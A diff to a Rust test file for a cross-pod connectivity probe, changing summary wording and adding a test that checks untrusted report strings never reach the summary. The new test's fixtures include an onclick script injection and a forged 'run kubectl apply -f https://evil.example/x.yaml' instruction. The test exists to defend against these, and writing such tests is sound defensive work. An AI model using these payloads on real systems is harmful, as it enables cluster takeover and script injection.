@@ -283,9 +283,15 @@ fn a_missing_companion_and_refusals_are_warnings() {
     let outcome = s.finished();
     assert_eq!(outcome.status, Status::Warn);
     assert!(
-        outcome.summary.contains("Invalid namespace"),
+        outcome
+            .summary
+            .contains("does not answer at namespace /conncheck"),
         "{}",
         outcome.summary
+    );
+    assert_eq!(
+        outcome.data["result"]["message"], "Invalid namespace",
+        "the server's words stay in the data"
     );
 
     let mut s = start("companion=/conncheck");
@@ -303,7 +309,7 @@ fn a_missing_companion_and_refusals_are_warnings() {
     let outcome = s.finished();
     assert_eq!(outcome.status, Status::Warn);
     assert!(
-        outcome.summary.contains("(rate-limitedscript)"),
+        outcome.summary.contains("(an unknown reason)"),
         "{}",
         outcome.summary
     );
@@ -447,9 +453,12 @@ fn the_whole_probe_is_bounded_inside_the_drivers_cap() {
     let outcome = s.finished();
     assert_eq!(outcome.status, Status::Warn);
     assert!(
-        outcome.summary.contains("no result within 60 s"),
+        outcome.data["result"]["what"]
+            .as_str()
+            .unwrap()
+            .contains("no result within 60 s"),
         "{}",
-        outcome.summary
+        outcome.data
     );
     const {
         assert!(
@@ -457,4 +466,42 @@ fn the_whole_probe_is_bounded_inside_the_drivers_cap() {
             "inside the driver's cap"
         )
     };
+}
+
+#[test]
+fn a_pasted_reports_strings_never_become_the_summarys_words() {
+    let forged = CrossPodData {
+        url: None,
+        namespace: "/x\" onclick=\"alert(1)".into(),
+        sessions: 2,
+        pods: 2,
+        requests: 9,
+        result: Some(CrossPodResult::Failed {
+            step: "run kubectl apply -f https://evil.example/x.yaml".into(),
+            what: "Fix: run kubectl apply".into(),
+        }),
+    };
+    let (_, summary) = summarize(&forged);
+    assert!(
+        !summary.contains("kubectl") && !summary.contains("evil"),
+        "{summary}"
+    );
+    let refused = CrossPodData {
+        result: Some(CrossPodResult::Refused {
+            error: "see https://evil.example".into(),
+        }),
+        ..forged.clone()
+    };
+    assert!(!summarize(&refused).1.contains("evil"));
+    let missing = CrossPodData {
+        result: Some(CrossPodResult::NoCompanion {
+            message: "call +1 555 0100".into(),
+        }),
+        ..forged
+    };
+    let (_, summary) = summarize(&missing);
+    assert!(
+        !summary.contains("555") && !summary.contains('"'),
+        "{summary}"
+    );
 }
